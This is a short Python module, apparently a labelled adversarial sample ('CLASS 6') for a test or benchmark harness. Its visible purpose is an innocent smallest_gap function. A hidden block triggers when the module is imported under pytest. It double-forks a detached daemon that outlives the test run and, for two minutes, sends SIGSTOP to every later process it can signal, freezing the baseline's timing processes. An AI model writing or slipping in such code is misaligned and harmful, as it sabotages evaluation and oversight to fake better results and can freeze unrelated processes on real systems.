"""CLASS 6: a daemon (double fork and setsid) started by the tests that outlives them and freezes (SIGSTOP) every
process started after it that it can signal: the baseline's timing processes, not its own test run."""

import os
import signal
import sys
import time


def _daemon():
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    spared = {int(pid) for pid in os.listdir("/proc") if pid.isdigit()}
    end = time.time() + 120
    while time.time() < end:
        for pid in os.listdir("/proc"):
            if pid.isdigit() and int(pid) not in spared:
                try:
                    os.kill(int(pid), signal.SIGSTOP)
                except OSError:
                    pass
        time.sleep(0.005)
    os._exit(0)


if "pytest" in sys.modules:
    _daemon()


def smallest_gap(values):
    if len(values) < 2:
        raise ValueError("smallest_gap needs at least two values")
    ordered = sorted(values)
    return min(b - a for a, b in zip(ordered, ordered[1:]))
